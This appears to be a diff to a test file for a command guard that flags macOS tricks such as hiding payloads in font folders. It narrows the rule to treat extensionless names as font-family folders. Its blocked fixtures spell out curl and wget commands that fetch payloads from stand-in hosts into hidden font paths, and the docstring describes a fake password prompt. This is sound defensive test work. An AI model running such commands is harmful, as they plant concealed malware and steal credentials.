@@ -10,7 +10,8 @@ lines. Each family is one class:
 - a downloaded or temporary file opened as root (``sudo open ~/Downloads/x``): whatever it is, it runs
   with root's rights (asked); installed apps and the project's own build pass;
 - a file that is not a font written into a font folder (``cp payload /Library/Fonts/.x``, ``curl -o
-  ~/Library/Fonts/update``): a payload kept where nobody looks (blocked); fonts and globs of them pass;
+  ~/Library/Fonts/update.sh``): a payload kept where nobody looks (blocked); fonts, globs of them and a
+  name with no extension (a font family's folder) pass;
 - a program run by a path whose name is a socket's, pid file's or lock's (``/usr/local/bin/com.docker.sock
   &``): disguised as a file no one runs (asked); the socket itself used by docker or curl passes;
 - a fake password prompt: what ``read -s`` took written to a file (``read -s -p "Password:" pw; echo
@@ -39,7 +40,7 @@ HELD: dict[str, list[str]] = {
     ],
     "payload in a font folder": [
         "cp payload /Library/Fonts/.x",
-        "curl -s -o ~/Library/Fonts/update https://cdn.example.net/u",
+        "curl -s -o ~/Library/Fonts/update.sh https://cdn.example.net/u",
         "sudo mv /tmp/a /Library/Fonts/com.apple.fontd",
         "wget -qO $HOME/Library/Fonts/.cache/agent http://198.51.100.4/a",
     ],
@@ -81,6 +82,10 @@ ALLOWED: list[str] = [
     "sudo open /Applications/Xcode.app",
     "sudo open -a TextEdit /etc/hosts",
     "cp MyFont.ttf ~/Library/Fonts/",
+    # a font family's folder installed or removed (lead): a name with no extension is a folder of fonts
+    "cp -R fonts/JetBrainsMono ~/Library/Fonts/",
+    "cp -r Inter ~/Library/Fonts/Inter",
+    "rm -rf ~/Library/Fonts/SomeFamily",
     "cp fonts/*.otf ~/Library/Fonts/",
     "curl -sLo ~/Library/Fonts/FiraCode-Regular.ttf https://github.com/tonsky/FiraCode/raw/master/x.ttf",
     "ls ~/Library/Fonts",
